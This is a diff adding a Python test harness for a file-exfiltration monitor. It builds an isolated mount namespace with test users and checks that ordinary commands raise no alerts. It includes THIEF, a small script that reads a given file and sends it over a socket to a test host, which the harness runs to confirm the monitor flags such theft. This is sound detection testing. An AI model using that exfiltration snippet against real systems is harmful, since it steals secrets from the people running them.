@@ -1,0 +1,186 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""The stage of the benign tests: a mount namespace with its own /etc, /run and users, so that logins, jobs and
+account changes are real and nothing of this machine changes; barbwired with the default policy; and the two
+questions that every case asks: was it silent, and is a theft of the same file told.
+
+The namespace is root's, with this machine's root file system in it, like a service's with PrivateTmp=: the
+default policy takes its programs for the host's."""
+
+import contextlib
+import os
+import shutil
+import subprocess
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
+
+import harness
+from net import HOST_V4, Net
+from tap import Failure, Skip, require, require_equal
+
+URL = f"http://{HOST_V4}/"
+PASSWORD = "decoy-not-a-password"
+USERS = ("root", "ana")
+PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"
+
+# A wrong program, and a person's way to write one.
+THIEF = """
+import socket, sys
+secret = open(sys.argv[1], "rb").read()
+socket.create_connection((sys.argv[2], 443)).sendall(secret[:4096])
+"""
+
+# What the namespace gets of its own. A passwd line changed here is a passwd line that PAM and sshd see.
+SETUP = """
+set -e
+mount -t tmpfs -o mode=755 tmpfs "$1"
+mkdir "$1/etc" "$1/upper" "$1/work" "$1/log"
+cp -a /etc/. "$1/etc"
+mount --bind "$1/etc" /etc
+mount -t overlay -o "lowerdir=/usr/local,upperdir=$1/upper,workdir=$1/work" overlay /usr/local
+mount --bind "$1/log" /var/log
+mount -t tmpfs -o mode=755 tmpfs /run
+mkdir -m 755 /run/sshd
+mkdir -m 1777 /run/lock
+[ ! -d /var/spool/cron ] || mount -t tmpfs -o mode=755 tmpfs /var/spool/cron
+# Only what the tests put there is run.
+rm -rf /etc/cron.d /etc/crontab && mkdir /etc/cron.d
+sed -i "s,^\\\\(root:[^:]*:[^:]*:[^:]*:[^:]*:\\\\)[^:]*,\\\\1$2," /etc/passwd
+echo ready
+exec cat >/dev/null
+"""
+
+
+class World:
+    """with World(root) as world: programs that world.command() names run in it."""
+
+    def __init__(self, home):
+        self.home = home
+        self.root = home.root.decode()
+        self.holder = None
+
+    def __enter__(self):
+        os.makedirs(f"{self.root}/world")
+        os.makedirs(self.home_of("root"), mode=0o700)
+        self.holder = subprocess.Popen(
+            ["unshare", "--mount", "--propagation", "private", "sh", "-c", SETUP, "setup",
+             f"{self.root}/world", self.home_of("root")], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+        if self.holder.stdout.readline() != b"ready\n":
+            raise RuntimeError("cannot make the mount namespace")
+        return self
+
+    def __exit__(self, *exception):
+        if self.holder:
+            self.holder.stdin.close()
+            self.holder.wait()
+            self.holder.stdout.close()
+
+    def home_of(self, user):
+        return self.home.path.decode() if user == "ana" else f"{self.root}/home/{user}"
+
+    def command(self, user, command, **environment):
+        """As if that user had logged in and typed it. Everything in front of it becomes it, by exec."""
+        home = self.home_of(user)
+        settings = {"HOME": home, "USER": user, "LOGNAME": user, "PATH": PATH, "LC_ALL": "C", "TERM": "dumb",
+                    **environment}
+        identity = [] if user == "root" else ["setpriv", f"--reuid={user}", f"--regid={user}", "--init-groups",
+                                              "--inh-caps=-all"]
+        return ["nsenter", f"--mount=/proc/{self.holder.pid}/ns/mnt", *identity, "env", "-i", "-C", home,
+                *[f"{name}={value}" for name, value in settings.items()], *command]
+
+    def do(self, *command, user="root", stdin=None):
+        """Part of the preparation: must succeed. Without the network."""
+        result = subprocess.run(self.command(user, command), input=stdin, capture_output=True, text=True,
+                                timeout=60)
+        if result.returncode != 0:
+            raise RuntimeError(f"{command}: {result.stdout}{result.stderr}")
+        return result.stdout
+
+    def write(self, user, name, text, mode=0o600):
+        """A file below that user's home; returns its path."""
+        path = os.path.join(self.home_of(user), name)
+        self.do("mkdir", "-p", os.path.dirname(path), user=user)
+        self.do("sh", "-c", 'umask 077; cat >"$1"; chmod "$2" "$1"', "sh", path, f"{mode:o}", user=user, stdin=text)
+        return path
+
+    def stand_in(self, path):
+        """A program of root's at a real program's path below /usr/local, for one that is not in Debian: reads
+        the file in its second argument and connects to the third and fourth."""
+        require(path.startswith("/usr/local/"), path)
+        self.do("install", "-D", "-m", "755", harness.program("technique-out-tcp"), path)
+
+    def add_users(self):
+        self.do("useradd", "--no-create-home", "--home-dir", self.home_of("ana"), "--shell", "/bin/bash", "ana")
+        self.do("chpasswd", stdin=f"ana:{PASSWORD}\nroot:{PASSWORD}\n")
+        self.do("chown", "-R", "ana:ana", self.home_of("ana"))
+
+
+class Scene:
+    def __init__(self, bw, net, home, world):
+        self.bw, self.net, self.home, self.world = bw, net, home, world
+
+    def run(self, command, user="root", stdin=None, timeout=60, host=False, needs=None, **environment):
+        """In the world, from the thief's network or the host's. CompletedProcess."""
+        needs = needs or command[0]
+        if not shutil.which(needs, path=PATH):
+            raise Skip(f"{needs} is not installed", environment=True)
+        process = self.net.popen(self.world.command(user, command, **environment),
+                                 namespace=self.net.host if host else None,
+                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                                 errors="surrogateescape")
+        try:
+            out, err = process.communicate(stdin or "", timeout=timeout)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            out, err = process.communicate()
+            raise Failure(f"{command} did not end in {timeout} s\n{out[-2000:]}\n{err[-2000:]}") from None
+        return subprocess.CompletedProcess(command, process.returncode, out, err)
+
+    def silent(self, command, user="root", status=0, **kwargs):
+        """Runs it, then proves that nothing since was an alert but the marker thefts. Returns what it printed."""
+        before = len(self.bw.alerts)
+        result = self.run(command, user, **kwargs)
+        if status is not None:
+            said = f"{result.stdout[-1500:]}{result.stderr[-1500:]}"
+            require_equal(result.returncode, status, f"{command} as {user}\n{said}")
+        self.require_silence(before)
+        return result.stdout
+
+    @contextlib.contextmanager
+    def silence(self):
+        before = len(self.bw.alerts)
+        yield
+        self.require_silence(before)
+
+    def require_silence(self, before):
+        self.bw.prove_delivered(self.net, self.home)
+        noise = [a for a in self.bw.alerts[before:] if a["process"]["comm"] != "technique-out-t"]
+        told = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files']} {a['destination']} "
+                         f"{a['lineage']}" for a in noise)
+        require(not noise, f"{len(noise)} alerts:\n{told}")
+
+    def theft(self, path, name):
+        """The same file in a wrong program's hands is told, as of that class: the silence means something."""
+        path = path.encode() if isinstance(path, str) else path
+        before = len(self.bw.alerts)
+        result = self.run([sys.executable, "-c", THIEF, os.fsdecode(path), HOST_V4], needs="/usr/bin/env")
+        require_equal(result.returncode, 0, f"the theft of {path}\n{result.stderr}")
+        alert = self.bw.wait(lambda: next((a for a in self.bw.alerts[before:] if harness.touches(a, path)), None),
+                             harness.ALERT_TIMEOUT, f"theft of {path}")
+        classes = [f["class"] for f in alert["files"] if f["path"] == harness.as_text(path)]
+        require(name in str(classes), f"{path} is told as {classes}, not {name}")
+        return alert
+
+
+@contextlib.contextmanager
+def scene(policy_dirs=(harness.DEFAULT_POLICY,)):
+    harness.require_machine()
+    with Net() as net, harness.Home() as home, World(home) as world:
+        world.add_users()
+        with harness.Barbwired(policy_dirs=policy_dirs) as bw:
+            yield Scene(bw, net, home, world)
+
+
+def whole(bw):
+    bw.stop()
+    bw.require_whole()
